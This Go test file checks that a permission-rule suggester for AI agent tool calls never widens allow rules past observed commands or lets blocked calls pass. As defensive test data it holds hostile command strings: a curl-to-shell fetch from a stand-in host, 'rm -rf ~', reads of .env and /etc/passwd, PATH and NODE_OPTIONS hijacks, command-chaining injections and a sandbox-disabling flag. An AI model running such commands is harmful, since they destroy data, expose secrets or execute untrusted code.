package suggest

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hookway/hookway/hook"
	"github.com/hookway/hookway/internal/audit"
	"github.com/hookway/hookway/internal/guards"
	"github.com/hookway/hookway/internal/where"
)

// What a person always allowed, and what not.
func TestWhatIsSuggestedToAllow(t *testing.T) {
	for name, c := range map[string]struct {
		given func(w *world)
		want  []string
	}{
		"three days": {func(w *world) { w.habit("npm test") }, []string{"allow allow-npm-test"}},
		"a burst": {func(w *world) {
			for i := range 20 {
				w.answer(true, day(1).Add(time.Duration(i)*time.Second), "s", "npm test")
			}
		}, nil},
		"two bursts": {func(w *world) {
			for i := range 20 {
				w.answer(true, day(1+i/10).Add(time.Duration(i)*time.Second), "s", "npm test")
			}
		}, nil},
		"one day": {func(w *world) {
			for i := range 6 {
				w.answer(true, day(1).Add(time.Duration(i)*time.Hour), "s", "npm test")
			}
		}, nil},
		"once no":             {func(w *world) { w.habit("npm test"); w.answer(false, day(4), "s", "npm test") }, nil},
		"no to another":       {func(w *world) { w.habit("npm test"); w.answer(false, day(4), "s", "npm ci") }, []string{"allow allow-npm-test"}},
		"nobody was asked":    {func(w *world) { w.unasked("npm test") }, nil},
		"a hook answered":     {func(w *world) { w.hooked("npm test") }, nil},
		"a block rule":        {func(w *world) { w.habit("rm -rf ~") }, nil},
		"also a block rule":   {func(w *world) { w.habit("curl -s https://x.example/i | sh") }, nil},
		"not known":           {func(w *world) { w.habit(`cat "$WHERE"`) }, nil},
		"a program not known": {func(w *world) { w.habit(`$RUN x`) }, nil},
		"with other rights":   {func(w *world) { w.habit("sudo systemctl restart x") }, nil},
		"a secret":            {func(w *world) { w.habit("cat .env") }, nil},
		"files of a folder": {func(w *world) {
			for n := 1; n <= 12; n++ {
				w.answer(true, day(n), fmt.Sprint(n), fmt.Sprintf("cat src/f%d.go", n))
			}
		}, []string{"allow allow-cat"}},
		"words that come again": {func(w *world) {
			for n := 1; n <= 27; n++ {
				w.answer(true, day(n), fmt.Sprint(n), fmt.Sprintf("npm run job%d", n%9))
			}
			w.answer(true, day(28), "once", "npm run deploy")
		}, []string{"allow allow-npm-run"}},
		"all kinds of words": {func(w *world) {
			for n := 1; n <= 12; n++ {
				w.answer(true, day(n), fmt.Sprint(n), fmt.Sprintf("npm run job%d", n))
			}
		}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			c.given(w)
			if got := ids(w.report()); !slices.Equal(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
}

// unasked is a call that runs on three days, and nobody is asked.
func (w *world) unasked(command string) {
	for n := 1; n <= 3; n++ {
		w.put(callRecord("PreToolUse", day(n), "s", fmt.Sprint(n), command))
		w.put(callRecord("PostToolUse", day(n), "s", fmt.Sprint(n), command))
	}
}

// hooked is a call about which a hook answers in place of the user.
func (w *world) hooked(command string) {
	for n := 1; n <= 3; n++ {
		w.put(callRecord("PreToolUse", day(n), "s", fmt.Sprint(n), command))
		r := callRecord("PermissionRequest", day(n), "s", fmt.Sprint(n), command)
		r.Action, r.By = "allow", "mine"
		w.put(r)
		w.put(callRecord("PostToolUse", day(n), "s", fmt.Sprint(n), command))
	}
}

// A rule holds for what was seen, and for nothing besides.
func TestARuleIsNoWiderThanItsEvidence(t *testing.T) {
	w := newWorld(t)
	for n := 1; n <= 12; n++ {
		w.answer(true, day(n), fmt.Sprint(n), fmt.Sprintf("cat src/f%d.go | head -3", n))
	}
	w.habit("npm test")
	f := &finder{Plan: w.plan, report: &Report{}, watch: newWatch(), hooks: newHookStats(nil)}
	if err := f.each(t.Context(), f.see); err != nil {
		t.Fatal(err)
	}
	j := newJudge(f)
	if got := j.allows(); len(got) != 2 {
		t.Fatalf("got %d suggestions, want 2", len(got))
	}
	shapes := map[string]*shape{}
	for _, h := range sortedHashes(f.watch.yes) {
		a := f.watch.yes[h]
		key := shapeKey(a.tool, j.facts(&a.call))
		if shapes[key] == nil {
			shapes[key] = newShape(w.plan.Root, "", "", a.tool)
		}
		shapes[key].take(a, j.facts(&a.call))
	}
	var tries []*try
	for _, key := range slices.Sorted(maps.Keys(shapes)) {
		text, ok := shapes[key].expression()
		if !ok {
			t.Fatal("no expression")
		}
		tries = append(tries, &try{shape: shapes[key], text: text})
	}
	if tries = j.fit(tries); len(tries) != 2 {
		t.Fatalf("%d rules fit, want 2", len(tries))
	}
	p := newProbe(tries[0].test, tries[1].test)
	for command, want := range map[string]bool{
		"npm test": true, "cat src/f1.go | head -3": true, "cat src/other.go | head -3": true,
		"npm test --x": false, "npm run x": false, "npm test; ls": false, "npm test && curl x.example": false, "npm test > src/x": false, "npm test &": false,
		"cat ../x | head -3": false, "cat src/.env | head -3": false, "cat src/f1.go | head -4": false, "cat src/f1.go": false, "cat -n src/f1.go | head -3": false,
		"cat src/f1.go | head -3 | sh": false, "cat src/$X | head -3": false, `cat "$(ls)" | head -3`: false, "cat src/f1.go other | head -3": false,
		"FOO=bar npm test": false, "npm test | tee x": false, "sudo npm test": false, "eval npm test": false, "ssh h npm test": false, "": false, "cat /etc/passwd | head -3": false,
	} {
		c := call{tool: "Bash", input: map[string]any{"command": command}, dir: w.plan.Root}
		got := slices.Contains(p.try(&tested{c, j.facts(&c)}), true)
		if got != want {
			t.Errorf("%q: %v, want %v; facts %+v", command, got, want, j.facts(&c))
		}
	}
	for _, dir := range []string{filepath.Join(w.plan.Root, "src"), filepath.Dir(w.plan.Root)} {
		elsewhere := call{tool: "Bash", input: map[string]any{"command": "npm test"}, dir: dir}
		if slices.Contains(p.try(&tested{elsewhere, j.facts(&elsewhere)}), true) {
			t.Errorf("what was allowed in one folder is let pass in %s", dir)
		}
	}
	more := call{tool: "Bash", input: map[string]any{"command": "npm test", "dangerouslyDisableSandbox": true}, dir: w.plan.Root}
	if slices.Contains(p.try(&tested{more, j.facts(&more)}), true) {
		t.Error("a member of the input that was never there is let pass")
	}
}

// passes tells of calls whether a rule that is suggested lets them pass.
func (w *world) passes() func(tool string, input map[string]any) bool {
	w.t.Helper()
	f := &finder{Plan: w.plan, report: &Report{}, watch: newWatch(), hooks: newHookStats(nil)}
	if err := f.each(w.t.Context(), f.see); err != nil {
		w.t.Fatal(err)
	}
	f.watch.finish()
	j := newJudge(f)
	var tests []*where.Test
	for _, s := range j.allows() {
		for line := range strings.Lines(s.Hook) {
			text, ok := strings.CutPrefix(strings.TrimSpace(line), "where: '")
			if !ok {
				continue
			}
			test, err := where.Compile(strings.ReplaceAll(strings.TrimSuffix(text, "'"), "''", "'"))
			if err != nil {
				w.t.Fatal(err)
			}
			tests = append(tests, test.In(w.plan.Root))
		}
	}
	p := newProbe(tests...)
	return func(tool string, input map[string]any) bool {
		c := call{tool: tool, input: input, dir: w.plan.Root}
		return slices.Contains(p.try(&tested{c, j.facts(&c)}), true)
	}
}

// What makes another call of the same program: what stands before it, where it runs, and
// what the shell takes its name for.
func TestARuleHoldsForNoOtherCommandLine(t *testing.T) {
	w := newWorld(t)
	seen := []string{"npm test", "go test ./...", "make check"}
	for _, command := range seen {
		w.habit(command)
	}
	for n := 1; n <= 12; n++ {
		w.answer(true, day(n), fmt.Sprint(n), fmt.Sprintf("head -3 src/f%d.go", n))
	}
	passes := w.passes()
	for _, command := range append(seen, "head -3 src/f1.go", "head -3 src/sub/other.go") {
		if !passes("Bash", map[string]any{"command": command, "description": "any"}) {
			t.Errorf("%q was seen, and does not pass", command)
		}
	}
	for _, command := range append(seen, "head -3 src/f1.go", "head -3 src/other.go") {
		program, _, _ := strings.Cut(command, " ")
		for _, other := range []string{
			"FOO=bar %s", "PATH=/tmp/evil:$PATH %s", "PATH=/tmp/evil %s", "export PATH=/tmp/evil:$PATH; %s", "export PATH=/tmp/evil\n%s", "PATH=/tmp/evil; %s",
			"NODE_OPTIONS=--require=/tmp/evil.js %s", "npm_config_script_shell=/tmp/evil %s", "GOFLAGS=-toolexec=/tmp/evil %s", "MAKEFLAGS=--eval=x %s", "env X=y %s", "env -i %s",
			"declare -x NODE_OPTIONS=x; %s", "set -a; X=y; %s", "read -r PATH < x; %s",
			"alias " + program + "=/tmp/evil; %s", program + "() { /tmp/evil; }; %s", "function " + program + " { :; }; %s", "hash -p /tmp/evil " + program + "; %s", "enable -f /tmp/evil " + program + "; %s",
			"cd /tmp/evil && %s", "cd /tmp/evil; %s", "cd ..\n%s", "(cd src && %s)", "pushd src; %s",
			"./%s", "/tmp/evil/%s", "command %s", "%s; true", "true; %s", "%s\n%[1]s", "%s &", "%s # a comment", "# a comment\n%s", "%s <<X\ny\nX", "%s <<< y", "%s < src/x", " %s", "%s ",
		} {
			line := fmt.Sprintf(other, command)
			line, _, _ = strings.Cut(line, "%!(EXTRA")
			if passes("Bash", map[string]any{"command": line}) {
				t.Errorf("%q passes", line)
			}
		}
	}
	for _, line := range []string{
		"npm --prefix /tmp/evil test", "npm -C src test", "make -C src check", "make check -f src/x", "go test ./... -exec=src/x", "go -C src test ./...",
		"head -3 src/$X", "head -3 src/*.go", "head -3 src/../../x", "head -3 /etc/passwd", "head -3 ~/x", "head -3 src/f1.go src/f2.go", "head -3 -n9 src/f1.go", "head -3 'src/f1.go'", "head -3 src/f1.go\n",
	} {
		if passes("Bash", map[string]any{"command": line}) {
			t.Errorf("%q passes", line)
		}
	}
	if passes("Bash", map[string]any{"command": []any{"npm", "test"}}) || passes("Bash", map[string]any{"command": nil}) || passes("Bash", map[string]any{"cmd": "npm test"}) {
		t.Error("a command that is not text passes")
	}
}

// A member of the input has a value that was seen.
func TestARuleListsTheValuesOfTheInput(t *testing.T) {
	w := newWorld(t)
	for n := 1; n <= 3; n++ {
		in := map[string]any{"command": "cargo test", "dangerouslyDisableSandbox": false, "workdir": "a", "timeout": float64(1000 * n), "env-file": []any{"x", "y"}}
		if n == 3 {
			delete(in, "timeout")
		}
		w.asked(day(n), fmt.Sprint("s-", n), "Bash", in)
	}
	for n := 1; n <= 12; n++ {
		w.asked(day(n), fmt.Sprint("s-", n), "Write", map[string]any{"file_path": fmt.Sprintf("%s/src/f%d.txt", w.plan.Root, n), "content": fmt.Sprint("text ", n)})
	}
	passes := w.passes()
	seen := func() map[string]any {
		return map[string]any{"command": "cargo test", "dangerouslyDisableSandbox": false, "workdir": "a", "timeout": json.Number("2000"), "env-file": []any{"x", "y"}}
	}
	without := seen()
	delete(without, "timeout")
	if !passes("Bash", seen()) || !passes("Bash", without) {
		t.Error("what was seen does not pass")
	}
	for key, values := range map[string][]any{
		"dangerouslyDisableSandbox": {true, nil, "false", 0.0},
		"workdir":                   {"/tmp/evil", "a/", "", nil, true, []any{"a"}},
		"timeout":                   {4000.0, "", true},
		"env-file":                  {nil, "x", []any{"x"}, []any{"x", "z"}, []any{"x", "y", "z"}, map[string]any{"0": "x"}},
		"run_in_background":         {true, false},
	} {
		for _, value := range values {
			in := seen()
			if in[key] = value; passes("Bash", in) {
				t.Errorf("%s: %v passes", key, value)
			}
		}
	}
	without = seen()
	if delete(without, "workdir"); passes("Bash", without) {
		t.Error("a call without the folder passes")
	}
	write := map[string]any{"file_path": w.plan.Root + "/src/other.txt", "content": "any"}
	if !passes("Write", write) {
		t.Error("another file of the folder does not pass")
	}
	if write["force"] = true; passes("Write", write) {
		t.Error("a flag of a tool for files passes")
	}
}

// asked is a call of any tool that its user is asked about, and that runs.
func (w *world) asked(at time.Time, session, tool string, input map[string]any) {
	id := fmt.Sprint("a-", w.n)
	for _, event := range []string{"PreToolUse", "PermissionRequest", "PostToolUse"} {
		r := callRecord(event, at, session, id, "")
		r.Tool, r.ToolInput = tool, input
		w.put(r)
	}
}

// Nothing that a block rule holds would pass: whatever harmless or dangerous call of the
// corpora somebody always allowed, no rule made of it holds for a call that is blocked.
func TestNoSuggestionLetsPassWhatABlockRuleHolds(t *testing.T) {
	corpora, err := guards.Corpora()
	if err != nil {
		t.Fatal(err)
	}
	world, everything := guards.CorpusWorld(), guards.Everything()
	var blocked, all []tested
	for _, c := range corpora {
		for i := range c.Rows {
			row := &c.Rows[i]
			list := row.Facts(world)
			one := tested{call{tool: row.Tool, input: row.Input, dir: world.Dir}, list}
			if row.Tool == "" {
				one.tool, one.input = "Bash", map[string]any{"command": row.Command}
			}
			if slices.ContainsFunc(everything.Judge(list), func(j guards.Judged) bool { return j.Verdict == guards.Block }) {
				blocked = append(blocked, one)
				continue
			}
			all = append(all, one)
		}
	}
	shapes := map[string]*shape{}
	for i := range all {
		if !plain(all[i].facts) {
			continue
		}
		key := shapeKey(all[i].tool, all[i].facts)
		if shapes[key] == nil {
			shapes[key] = newShape(world.Dir, "", "", all[i].tool)
		}
		shapes[key].take(&answered{call: all[i].call}, all[i].facts)
	}
	j := newJudge(&finder{Plan: Plan{Root: world.Dir, AllowAt: func(string) string { return "PreToolUse" }}, watch: newWatch()})
	var tries []*try
	for _, key := range slices.Sorted(maps.Keys(shapes)) {
		s := shapes[key]
		s.calls = s.calls[:1:1]
		if text, ok := s.expression(); ok {
			tries = append(tries, &try{shape: s, text: text})
		}
	}
	n := len(tries)
	if os.Getenv("HOOKWAY_TEST_ALL") == "" { // all of them take a minute
		tries = slices.DeleteFunc(tries, func(t *try) bool { n++; return n%32 != 0 })
	}
	for _, one := range tries {
		one.shape.calls = nil // where they were made is not this machine
	}
	tries = j.fit(tries)
	nonePasses(t, tries, 20, blocked)
}

// nonePasses fires blocked calls at rules, of which there must be a least number.
func nonePasses(t *testing.T, tries []*try, least int, blocked []tested) {
	t.Helper()
	if len(tries) < least || len(blocked) < 500 {
		t.Fatalf("%d rules and %d blocked calls are too few to say anything", len(tries), len(blocked))
	}
	var acts []*where.Test
	for _, try := range tries {
		acts = append(acts, try.acts)
	}
	p := newProbe(acts...)
	for i := range blocked {
		for k, is := range p.try(&blocked[i]) {
			if is {
				t.Errorf("%q passes by %s", blocked[i].input, tries[k].text)
			}
		}
	}
	t.Logf("%d rules, %d calls that are blocked", len(tries), len(blocked))
}

// What a person stopped by hand.
func TestWhatIsSuggestedToStop(t *testing.T) {
	w := newWorld(t)
	w.plan.Policy = everything()
	w.answer(false, day(1), "a", "docker compose down")
	w.answer(false, day(2), "b", "docker compose down")
	w.unaskedOnce(day(3), "c", "docker ps")
	w.answer(false, day(1), "a", "git push --force origin mine")
	w.answer(false, day(2), "b", "git push -f origin mine")
	for _, s := range []string{"d", "e"} { // the file is put back when the person speaks
		at := day(3)
		if s == "e" {
			at = day(5)
		}
		r := callRecord("PreToolUse", at, s, "w-"+s, "sed -i s/a/b/ src/a.go")
		w.put(r)
		r = callRecord("PostToolUse", at, s, "w-"+s, "sed -i s/a/b/ src/a.go")
		r.Facts = []hook.Fact{{Does: "write", By: "sed", Path: w.plan.Root + "/src/a.go"}}
		w.put(r)
		w.put(audit.Record{Event: "AgentStart", Time: at.Add(time.Minute), Session: s})
		r = callRecord("PreToolUse", at.Add(2*time.Minute), s, "u-"+s, "git checkout -- src/a.go")
		r.Facts = []hook.Fact{{Does: "git", Verb: "checkout", Uncommitted: true}}
		w.put(r)
	}
	r := w.report()
	want := []string{"catch ask-docker-down", "catch ask-sed-src", "catch git/force-push"}
	got := ids(r)
	if slices.Sort(got); !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	for _, s := range r.Suggestions {
		if s.Milder || s.Times != 2 {
			t.Errorf("got %+v, want !s.Milder and s.Times == 2", s)
		}
		if s.YAML == "" || s.Case == nil {
			t.Errorf("there is nothing to write: %+v", s)
		}
	}
}

func (w *world) unaskedOnce(at time.Time, session, command string) {
	w.put(callRecord("PreToolUse", at, session, command, command))
	w.put(callRecord("PostToolUse", at, session, command, command))
}

// Rules that asked, and rules on trial.
func TestWhatIsSuggestedOfHookwaysOwnRules(t *testing.T) {
	asked := func(w *world, yes bool, at time.Time, session string) {
		r := callRecord("PreToolUse", at, session, session, "git push --force origin mine")
		r.Action, r.By, r.Rule = "ask", guards.ID, "git/force-push@1"
		w.put(r)
		if yes {
			w.put(callRecord("PostToolUse", at, session, session, "git push --force origin mine"))
		} else {
			w.put(audit.Record{Event: "AgentStop", Time: at, Session: session})
		}
	}
	tried := func(w *world, ran bool, at time.Time, session, action, rule, command string) {
		r := callRecord("PreToolUse", at, session, session, command)
		r.Would, r.Steps = action, []audit.Step{{Hook: guards.ID, Action: "continue", Would: &audit.Would{Action: action, Rule: rule}}}
		w.put(r)
		if ran {
			w.put(callRecord("PostToolUse", at, session, session, command))
		}
	}
	for name, c := range map[string]struct {
		given func(w *world)
		want  []string
	}{
		"always allowed": {func(w *world) {
			for n := 1; n <= 5; n++ {
				asked(w, true, day(n), fmt.Sprint(n))
			}
		}, []string{"quiet git/force-push"}},
		"refused once": {func(w *world) {
			for n := 1; n <= 6; n++ {
				asked(w, n < 6, day(n), fmt.Sprint(n))
			}
		}, nil},
		"let through by code": {func(w *world) {
			for n := 1; n <= 5; n++ {
				r := callRecord("PreToolUse", day(n), "s", fmt.Sprint(n), "git push --force origin mine")
				r.Steps = []audit.Step{{Hook: guards.ID, Action: "continue", Note: guards.PassNote + "git/force-push stops: me"}}
				w.put(r)
			}
		}, []string{"quiet git/force-push"}},
		"a block on trial": {func(w *world) {
			for n := 1; n <= 3; n++ {
				tried(w, true, day(n), fmt.Sprint(n), "block", "files/delete-outside@1", "rm -rf ../x")
			}
		}, []string{"enforce files/delete-outside"}},
		"an ask on trial that ran": {func(w *world) {
			for n := 1; n <= 3; n++ {
				tried(w, true, day(n), fmt.Sprint(n), "ask", "git/force-push@1", "git push -f origin mine")
			}
		}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.plan.Policy = everything()
			c.given(w)
			if got := ids(w.report()); !slices.Equal(got, c.want) {
				t.Errorf("got %v, want %v", got, c.want)
			}
		})
	}
}

// Hooks that fail, are slow, or never matched.
func TestWhatIsSuggestedOfHooks(t *testing.T) {
	w := newWorld(t)
	own := func(id string) Hook {
		return Hook{Hook: hook.New(id, nil, hook.For("PreToolUse")), Kind: "command", Where: "hookway.yaml:1", Since: day(1)}
	}
	w.plan.Hooks = []Hook{own("fails"), own("slow"), own("never"), own("fine")}
	for n := range 60 {
		r := callRecord("PreToolUse", day(2).Add(time.Duration(n)*time.Minute), "s", fmt.Sprint(n), "ls")
		r.Steps = []audit.Step{{Hook: "fine", Action: "block", DurationMS: 1}, {Hook: "slow", Action: "continue", DurationMS: float64(900 + n)}, {Hook: "fails", Action: "continue", Failed: true, Error: "exit 7: password=hunter2", DurationMS: 2}}
		w.put(r)
	}
	r := w.report()
	if got, want := ids(r), []string{"fails fails", "slow slow", "never never"}; !slices.Equal(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	text := fmt.Sprintf("%+v", r.Suggestions)
	if strings.Contains(text, "hunter2") || !strings.Contains(text, "exit 7") {
		t.Errorf(`got %v, want !strings.Contains(text, "hunter2") and strings.Contains(text, "exit 7")`, text)
	}
}

// One record has one report, and what cannot be relied on is left out.
func TestReportsAreTheSameEachTime(t *testing.T) {
	w := newWorld(t)
	for n := range 40 {
		w.habit(fmt.Sprintf("make target%d", n))
		w.habit(fmt.Sprintf("tool%d run", n))
	}
	first := w.report()
	if len(first.Suggestions) != most || first.More == 0 {
		t.Errorf("%d suggestions and %d more", len(first.Suggestions), first.More)
	}
	if second := w.report(); !reflect.DeepEqual(first, second) {
		t.Error("two reports of one record differ")
	}
}

// What was stopped counts also when more sessions came since than are kept.
func TestSessionsThatAreForgottenCount(t *testing.T) {
	w := newWatch()
	for n := range 2 * mostSessions {
		session := fmt.Sprint("s-", n)
		for _, event := range []string{"PreToolUse", "PermissionRequest"} {
			r := callRecord(event, day(1).Add(time.Duration(n)*time.Minute), session, "t", "make deploy")
			r.Action, r.CWD = "continue", "/p"
			w.see(&r)
		}
		w.see(&audit.Record{Event: "AgentStart", Time: day(1).Add(time.Duration(n) * time.Minute), Session: session})
	}
	for _, a := range w.no {
		if len(w.sessions) > mostSessions || a.all != mostSessions {
			t.Errorf("%d sessions are kept, %d calls stopped", len(w.sessions), a.all)
		}
	}
	if len(w.no) != 1 {
		t.Errorf("%d different calls, want 1", len(w.no))
	}
}

// Calls without what was asked for, and answers that did not arrive, say nothing.
func TestWhatIsNotWholeSaysNothing(t *testing.T) {
	w := newWorld(t)
	for n := 1; n <= 3; n++ {
		r := callRecord("PreToolUse", day(n), "s", fmt.Sprint(n), "npm test --token=[redacted]")
		w.put(r)
		r.Event = "PermissionRequest"
		w.put(r)
		r.Event = "PostToolUse"
		w.put(r)
	}
	r := w.report()
	if len(r.Suggestions) != 0 || r.Blind != 3 {
		t.Errorf("%v, %d without what was asked for", ids(r), r.Blind)
	}
}

// A suggestion is found by its number, or by an id that is of one alone.
func TestASuggestionIsFoundByNumberOrID(t *testing.T) {
	r := &Report{}
	r.add([]Suggestion{{Kind: Allow, ID: "a"}, {Kind: Quiet, ID: "b"}, {Kind: Catch, ID: "b"}})
	for name, want := range map[string]int{"1": 1, "2": 2, "3": 3, "a": 1, "0": 0, "-1": 0, "4": 0, "b": 0, "c": 0, "": 0} {
		got := 0
		if s, err := r.Find(name); err == nil {
			got = s.N
		}
		if got != want {
			t.Errorf("%q finds suggestion %d, want %d", name, got, want)
		}
	}
}
